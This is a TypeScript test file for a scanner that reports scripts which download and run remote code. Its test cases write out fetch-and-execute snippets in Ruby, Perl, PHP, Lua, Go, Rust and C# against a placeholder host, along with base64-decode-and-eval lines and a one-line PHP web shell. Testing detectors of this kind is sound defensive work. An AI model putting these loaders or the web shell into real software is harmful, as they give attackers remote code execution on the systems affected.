import { describe, expect, test } from "vitest";
import { markText, type TextFormat } from "../../text/marked-text.ts";
import { scriptedRuns } from "./scripted-runs.ts";

const seenIn = (text: string, format: TextFormat = "script") =>
  scriptedRuns(markText(text, format)).map(
    ({ line, severity = "", does }) => `${line} ${severity} ${does}`,
  );

const url = "https://c.zzz.io/a";
const runs = "runs a download from c.zzz.io";

describe("a download that a script runs is reported:", () => {
  test.each<[string, string, readonly string[]]>([
    ["Ruby", `require 'net/http'\nb = Net::HTTP.get(URI("${url}"))\neval(b)`, [`3  ${runs}`]],
    ["Ruby, at once", `require 'open-uri'\neval(URI.open("${url}").read)`, [`2  ${runs}`]],
    [
      "Ruby, over a file",
      `require 'net/http'\nb = Net::HTTP.get(URI("${url}"))\nFile.write("/tmp/a", b)\nsystem("sh /tmp/a")`,
      [`4  ${runs}`],
    ],
    [
      "Perl",
      `use strict;\nmy $u = "${url}";\nmy $c = LWP::Simple::get($u);\neval $c;`,
      ["4  runs a download"],
    ],
    [
      "Perl, a command",
      `use strict;\nmy $c = LWP::Simple::get("${url}");\nmy $o = qx{$c};`,
      [`3  ${runs}`],
    ],
    ["PHP", `<?php\n$c = file_get_contents("${url}");\neval($c);`, [`3  ${runs}`]],
    [
      "Lua",
      `local http = require("socket.http")\nlocal b = http.request("${url}")\nload(b)()`,
      [`3  ${runs}`],
    ],
    [
      "Lua, by a command",
      `vim.opt.number = true\nlocal p = io.popen("curl -s ${url}")\nlocal c = p:read("*a")\nload(c)()`,
      [`4  ${runs}`],
    ],
    [
      "Go, over a file",
      `package main\nfunc main() {\n  r, _ := http.Get("${url}")\n  b, _ := io.ReadAll(r.Body)\n  os.WriteFile("/tmp/a", b, 0755)\n  exec.Command("/tmp/a").Start()\n}`,
      [`6  ${runs}`],
    ],
    [
      "Go, copied into an open file, beyond another",
      `package main\nfunc main() {\n  r, _ := http.Get("${url}")\n  f, _ := os.Create("/tmp/a")\n  os.WriteFile("/tmp/b", text, 0644)\n  io.Copy(f, r.Body)\n  exec.Command("/tmp/a").Start()\n}`,
      [`7  ${runs}`],
    ],
    [
      "Rust",
      `fn main() {\n  let b = reqwest::blocking::get("${url}").unwrap().text().unwrap();\n  Command::new("sh").arg("-c").arg(b).spawn();\n}`,
      [`3  ${runs}`],
    ],
    [
      "C#",
      `using System;\nstring s = new WebClient().DownloadString("${url}");\nProcess.Start("cmd", s);`,
      [`3  ${runs}`],
    ],
  ])("%s", (_name, text, expected) => {
    expect(seenIn(text)).toEqual(expected);
  });
});

describe("a decoded text that a script runs is reported:", () => {
  test.each<[string, string]>([
    ["Ruby", "require 'base64'\ninstance_eval(Base64.decode64(DATA))"],
    ["Perl", "use MIME::Base64;\neval decode_base64($d);"],
    ["PHP, in two steps", "<?php\n$c = gzinflate($d); eval($c);\n"],
    ["Java", "byte[] b = Base64.getDecoder().decode(s);\ndefineClass(b);"],
  ])("%s", (_name, text) => {
    expect(seenIn(text).map((seen) => seen.slice(2))).toContain(" decodes a text and runs it");
  });
});

test("a page that runs what is sent to it is reported", () => {
  expect(seenIn('<?php if (isset($_GET["x"])) { system($_GET["x"]); }')).toEqual([
    "1 critical runs what anyone sends to it",
  ]);
  expect(seenIn('<?php echo $_GET["x"];')).toEqual([]);
  expect(seenIn('Call system($_GET["x"]) in it.', "markdown")).toEqual([]);
  expect(seenIn('Never run:\n```php\nsystem($_GET["x"]);\n```', "markdown")).toEqual([]);
});

test("in a text, the block says the language, and an example is less than a step", () => {
  const code = `b = Net::HTTP.get(URI("${url}"))\neval(b)`;
  expect(seenIn(`\`\`\`ruby\n${code}\n\`\`\``, "markdown")).toEqual([`3  ${runs}`]);
  expect(seenIn(`# Attacks\n\`\`\`ruby\n${code}\n\`\`\``, "markdown")).toEqual([
    `4 medium ${runs}`,
  ]);
  expect(seenIn(`Never run:\n\`\`\`ruby\n${code}\n\`\`\``, "markdown")).toEqual([]);
  expect(seenIn(`\`\`\`\n${code}\n\`\`\``, "markdown")).toEqual([]);
  expect(seenIn(`\`\`\`ruby\nputs 1\n\`\`\`\n\`\`\`text\n${code}\n\`\`\``, "markdown")).toEqual([]);
});

test.each([
  ["a shell script", `Net::HTTP.get(URI("${url}")); eval(b)`, "shell"],
  ["another language", `x = http.get("${url}")\neval(x)`, "script"],
  [
    "what is only fetched",
    `require 'net/http'\nb = Net::HTTP.get(URI("${url}"))\nputs b`,
    "script",
  ],
  ["what is only run", `require 'net/http'\nsystem("make")`, "script"],
  [
    "this machine",
    `require 'net/http'\neval(Net::HTTP.get(URI("http://localhost:1/a")))`,
    "script",
  ],
  [
    "this machine, later",
    `require 'net/http'\nb = Net::HTTP.get(URI("http://localhost:1/a"))\neval(b)`,
    "script",
  ],
  [
    "another file",
    `require 'net/http'\nFile.write("/tmp/a", Net::HTTP.get(URI("${url}")))\nsystem("make")`,
    "script",
  ],
  ["a comment", `require 'net/http'\n# eval(Net::HTTP.get(URI("${url}")))`, "script"],
] as const)("not reported: %s", (_name, text, format) => {
  expect(seenIn(text, format)).toEqual([]);
});
